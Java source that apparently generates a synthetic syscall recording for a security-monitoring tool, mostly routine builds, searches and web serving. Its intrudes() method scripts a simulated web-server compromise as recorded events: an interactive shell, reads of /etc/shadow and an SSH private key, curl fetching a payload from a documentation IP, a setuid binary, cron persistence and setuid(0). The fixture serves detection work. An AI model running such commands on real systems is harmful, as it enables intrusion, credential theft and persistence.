package io.vedette.syscalls;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;

/**
 * Makes {@code content/recordings/kernel-first-steps.scap.gz}: a made-up day on a made-up machine,
 * compressed into a minute. The same from run to run.
 *
 * <p>Builds, searches through folders, shells and their small programs, a script in a container, a
 * web server with its clients, and in between somebody who does what he should not; and {@link
 * EveryEvent}. The start-up cache of {@code ./vedette} is trained on it: branches that are not
 * taken here are thrown out of the first machine code, and cost another compilation when they are.
 */
final class KernelFirstSteps {
    private static final int ROUNDS = 20;
    private static final int CURRENT_DIRECTORY = -100;
    private static final int NO_SUCH_FILE = -2;
    private static final int NO_SUCH_DESCRIPTOR = -9;
    private static final int DUPLICATE = 1; // commands of fcntl, as Falco numbers them
    private static final int SET_FLAGS = 3;
    private static final int GET_STATUS = 4;
    private static final int DUPLICATE_CLOSING = 26;
    private static final int DEVICE = 2049;
    private static final int FROM_DIRECTORY = 1 << 13;
    private static final int READ_ONLY = 1;
    private static final int WRITE_ONLY = 2;
    private static final int CREATE = 4;
    private static final int FIRST_PID = 2_000;
    private static final int SERVER = 900;
    private static final int SHELL = 1_000;
    private static final long MILLISECOND = 1_000_000L;

    private static final int HERE = 0xc0000205; // 192.0.2.5, for documentation (RFC 5737)
    private static final int CLIENT = 0xc6336407; // 198.51.100.7
    private static final int ELSEWHERE = 0xcb007142; // 203.0.113.66

    private static final String[] LIBRARIES = {
        "/etc/ld.so.cache",
        "/lib/x86_64-linux-gnu/libc.so.6",
        "/lib/x86_64-linux-gnu/libm.so.6",
        "/usr/lib/locale/locale-archive"
    };

    private static final String[] LOCALES = {
        "LC_CTYPE", "LC_TIME", "LC_NUMERIC", "LC_COLLATE", "LC_MONETARY", "LC_MESSAGES"
    };

    private static final String CONTAINER =
            "cpu=/docker/3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e\0";

    private static final String[] TOOLS = {"cat", "sed", "grep", "ls", "date", "id", "wc", "env"};

    private final Recorded in = new Recorded(MILLISECOND);
    private final EveryEvent everything = new EveryEvent(in);
    private int nextPid = FIRST_PID;
    private int next = 1;

    private KernelFirstSteps() {
        in.machine()
                .interfaces
                .add(
                        new Interfaces.Interface(
                                new byte[] {(byte) 192, 0, 2, 5},
                                new byte[] {-1, -1, -1, 0},
                                new byte[] {(byte) 192, 0, 2, -1},
                                0,
                                Recorded.bytes("eth0")));
        user(0, "root", "/root");
        user(33, "www-data", "/var/www");
        user(1000, "alice", "/home/alice");
        in.thread(SERVER, 1, "nginx").uid = 33;
        ProcessThread shell = in.thread(SHELL, 1, "bash");
        shell.uid = 1000;
        shell.tty = 34_817;
        shell.directory = Recorded.bytes("/home/alice/shop/");
    }

    private void user(int uid, String name, String home) {
        in.machine()
                .accounts
                .add(
                        Slice.NOTHING,
                        new Accounts.User(
                                uid,
                                uid,
                                Recorded.bytes(name),
                                Recorded.bytes(home),
                                Recorded.bytes("/bin/sh")));
    }

    /** The recording, unpacked. */
    static byte[] make() {
        var made = new KernelFirstSteps();
        for (int round = 0; round < ROUNDS; round++) {
            made.compiles(round);
            made.searches(round);
            made.serves(round);
            made.links(round);
            made.manages(round);
            made.everything.acts(round);
            for (String tool : TOOLS) {
                made.uses(tool, "notes-" + round + ".txt");
            }
            if (round % 6 == 4) {
                made.intrudes();
            }
        }
        return made.in.written();
    }

    /** A number that looks like chance. */
    private int chance(int below) {
        next = next * 1_103_515_245 + 12_345;
        return (next >>> 16) % below;
    }

    private long starts(long parent, String comm) {
        long pid = nextPid++;
        Scenarios.starts(in, parent, pid, comm, 0);
        return pid;
    }

    private long runs(long parent, String from, String path, String... arguments) {
        long pid = starts(parent, from);
        in.event(EventCode.FCNTL, pid, 10, 1, DUPLICATE, 0);
        in.event(EventCode.DUP3, pid, 1, 10, 1, 0);
        in.event(EventCode.CLOSE, pid, 0, 10);
        Scenarios.runs(in, pid, parent, path, arguments);
        for (String library : LIBRARIES) {
            reads(pid, library);
        }
        return pid;
    }

    private void reads(long pid, String path) {
        opens(pid, path, READ_ONLY, 3);
        in.event(EventCode.READ, pid, 4, new byte[] {'t', 'e', 'x', 't'}, 3, 4096);
        in.event(EventCode.CLOSE, pid, 0, 3);
    }

    private void writes(long pid, String path) {
        opens(pid, path, WRITE_ONLY | CREATE, 3);
        in.event(EventCode.WRITE, pid, 4, new byte[] {'t', 'e', 'x', 't'}, 3, 4);
        in.event(EventCode.CLOSE, pid, 0, 3);
    }

    private void opens(long pid, String path, int flags, int result) {
        in.event(
                EventCode.OPENAT,
                pid,
                result,
                CURRENT_DIRECTORY,
                path,
                flags,
                0,
                DEVICE,
                1000 + chance(60_000));
    }

    /** Headers are looked for in vain first, as compilers do. */
    private void compiles(int round) {
        long make = runs(SHELL, "bash", "/usr/bin/make", "-j4", "all");
        for (int file = 0; file < 4; file++) {
            String source = "src/part" + (round % 5) + "/file" + file;
            long compiler =
                    runs(make, "make", "/usr/bin/cc1", "-O2", source + ".c", "-o", source + ".o");
            reads(compiler, source + ".c");
            for (int header = 0; header < 12; header++) {
                String name = "shop/header" + chance(90) + ".h";
                opens(compiler, "include/" + name, READ_ONLY, NO_SUCH_FILE);
                reads(compiler, "../shop/include/" + name);
            }
            writes(compiler, source + ".o");
            in.event(EventCode.RENAME, compiler, 0, source + ".o", source + ".obj");
            Scenarios.ends(in, compiler);
        }
        Scenarios.ends(in, make);
    }

    private void searches(int round) {
        long find = runs(SHELL, "bash", "/usr/bin/find", "/srv/data", "-name", "*.tmp");
        for (int folder = 0; folder < 25; folder++) {
            String path = "/srv/data/" + (round % 7) + "/folder" + folder;
            opens(find, path, READ_ONLY | FROM_DIRECTORY, 4);
            in.event(EventCode.FCNTL, find, 0, 4, SET_FLAGS, 1);
            in.event(EventCode.NEWFSTATAT, find, 0, 4, "x" + folder + ".tmp", 0);
            in.event(EventCode.CLOSE, find, 0, 4);
            if (folder % 5 == 0) {
                in.event(EventCode.UNLINKAT, find, 0, CURRENT_DIRECTORY, path + "/x" + round, 0);
            }
        }
        Scenarios.ends(in, find);
    }

    private void serves(int round) {
        for (int request = 0; request < 8; request++) {
            in.event(
                    EventCode.ACCEPT4,
                    SERVER,
                    7,
                    Scenarios.tuple(CLIENT, 40_000 + request, HERE, 443),
                    0,
                    0,
                    5,
                    0);
            in.event(EventCode.RECVFROM, SERVER, 3, Recorded.bytes("GET"), new byte[0], 7, 3);
            opens(SERVER, "/var/www/page" + (round + request) % 20 + ".html", READ_ONLY, 8);
            in.event(EventCode.CLOSE, SERVER, 0, 8);
            in.event(EventCode.SENDTO, SERVER, 2, Recorded.bytes("OK"), 7, 2, new byte[0]);
            in.event(EventCode.CLOSE, SERVER, 0, 7);
        }
    }

    private void uses(String tool, String file) {
        long pid = runs(SHELL, "bash", "/usr/bin/" + tool, "-n", file);
        in.event(EventCode.CHDIR, pid, 0, "/home/alice/notes");
        reads(pid, file);
        Scenarios.ends(in, pid);
    }

    /** A tool of several threads that share descriptors, as compilers of Go have it. */
    private void links(int round) {
        long go = nextPid++;
        Scenarios.starts(in, EventCode.CLONE3, SHELL, go, "bash", 0, Scenarios.CGROUPS);
        Scenarios.runs(in, go, SHELL, "/usr/bin/go", "build", "-trimpath", "./cmd/shop/...");
        long[] threads = {go, nextPid++, nextPid++, nextPid++};
        for (int i = 1; i < threads.length; i++) {
            Scenarios.starts(
                    in,
                    EventCode.CLONE3,
                    go,
                    threads[i],
                    "go",
                    Scenarios.THREAD,
                    Scenarios.CGROUPS);
        }
        for (int file = 0; file < 40; file++) {
            long thread = threads[chance(threads.length)];
            String name = "/home/alice/go/pkg/mod/example.com/shop@v1." + round + "/file" + file;
            opens(thread, name + ".go", READ_ONLY, 6);
            for (int call = 0; call < 4; call++) {
                in.event(EventCode.FCNTL, thread, 34_816, 6, GET_STATUS + call % 2, 0);
            }
            in.event(EventCode.CLOSE, thread, 0, 6);
            if (file % 8 == 0) {
                opens(thread, "./internal//file" + file + "/../..x/", READ_ONLY, 40 + file);
                in.event(EventCode.FCNTL, thread, 0, 40 + file, SET_FLAGS, file % 16 / 8);
                in.event(EventCode.FCNTL, thread, 100 + file, 40 + file, DUPLICATE_CLOSING, 100);
            }
        }
        for (int file = 0; file < 40; file += 8) {
            in.event(EventCode.CLOSE, go, 0, 40 + file);
            in.event(EventCode.CLOSE, go, 0, 100 + file);
        }
        for (int i = threads.length - 1; i >= 0; i--) {
            Scenarios.ends(in, threads[i]);
        }
    }

    /** A script in a container: it looks for its words in vain, and closes what is not there. */
    private void manages(int round) {
        long script = nextPid++;
        Scenarios.starts(in, EventCode.VFORK, 1, script, "init", 0, CONTAINER);
        Scenarios.runsIn(in, CONTAINER, script, 1, "/bin/bash", "/opt/manage.sh", "" + round);
        for (String locale : LOCALES) {
            opens(script, "/usr/lib/locale/C.UTF-8/" + locale, READ_ONLY, NO_SUCH_FILE);
            reads(script, "/usr/lib/locale/C.utf8/" + locale);
        }
        in.event(EventCode.DUP2, script, 255, 3, 255);
        for (int tool = 0; tool < 4; tool++) {
            in.event(EventCode.PIPE2, script, 0, 3, 4, 5000 + chance(900), 0);
            long child = nextPid++;
            Scenarios.starts(in, EventCode.CLONE, script, child, "bash", 0, CONTAINER);
            in.event(EventCode.CLOSE, script, 0, 4);
            in.event(EventCode.CLOSE, script, NO_SUCH_DESCRIPTOR, 4);
            in.event(EventCode.DUP2, child, 1, 4, 1);
            in.event(EventCode.CLOSE, child, 0, 3);
            in.event(EventCode.CLOSE, child, NO_SUCH_DESCRIPTOR, 255);
            in.event(EventCode.FCNTL, child, NO_SUCH_DESCRIPTOR, 9, SET_FLAGS, 0);
            String path = "/usr/bin/" + TOOLS[chance(TOOLS.length)];
            Scenarios.runsIn(in, CONTAINER, child, script, path, "-e", "s/1/" + tool + "/");
            for (String library : LIBRARIES) {
                reads(child, library);
            }
            in.event(EventCode.PRLIMIT, child, 0, 0, 0, 8 << 20, -1);
            reads(child, "/opt/manage.d/../lib//words" + tool + "/./a");
            Scenarios.ends(in, child);
            in.event(EventCode.CLOSE, script, 0, 3);
        }
        writes(script, "/dev/null");
        Scenarios.ends(in, script);
    }

    /** The shell of a web server, what it reads, and where it goes with it. */
    private void intrudes() {
        long shell = runs(SERVER, "nginx", "/bin/sh", "-i");
        long cat = runs(shell, "sh", "/usr/bin/cat", "/etc/shadow");
        reads(cat, "/etc/shadow");
        reads(cat, "/root/.ssh/id_ed25519");
        Scenarios.ends(in, cat);
        long curl = runs(shell, "sh", "/usr/bin/curl", "-o", "/tmp/.x", "http://203.0.113.66/x");
        in.event(EventCode.SOCKET, curl, 3, 2, 1, 6);
        in.event(
                EventCode.CONNECT,
                curl,
                0,
                Scenarios.tuple(HERE, 41_000, ELSEWHERE, 80),
                3,
                Scenarios.address(ELSEWHERE, 80));
        in.event(EventCode.CLOSE, curl, 0, 3);
        writes(curl, "/tmp/.x");
        Scenarios.ends(in, curl);
        long chmod = runs(shell, "sh", "/usr/bin/chmod", "u+s", "/tmp/.x");
        in.event(EventCode.FCHMODAT, chmod, 0, CURRENT_DIRECTORY, "/tmp/.x", 04755);
        Scenarios.ends(in, chmod);
        long left = runs(shell, "sh", "/tmp/.x", "--daemon");
        writes(left, "/etc/cron.d/x");
        in.event(EventCode.SYMLINKAT, left, 0, "/etc/passwd", CURRENT_DIRECTORY, "/tmp/p");
        in.event(EventCode.SETUID, left, 0, 0);
        Scenarios.ends(in, left);
        Scenarios.ends(in, shell);
    }

    /**
     * Writes the recording.
     *
     * @param arguments the file
     */
    public static void main(String[] arguments) throws IOException {
        var packed = new ByteArrayOutputStream();
        try (var out =
                new GZIPOutputStream(packed) {
                    {
                        def.setLevel(Deflater.BEST_COMPRESSION);
                    }
                }) {
            out.write(make());
        }
        Files.write(Path.of(arguments[0]), packed.toByteArray());
    }
}
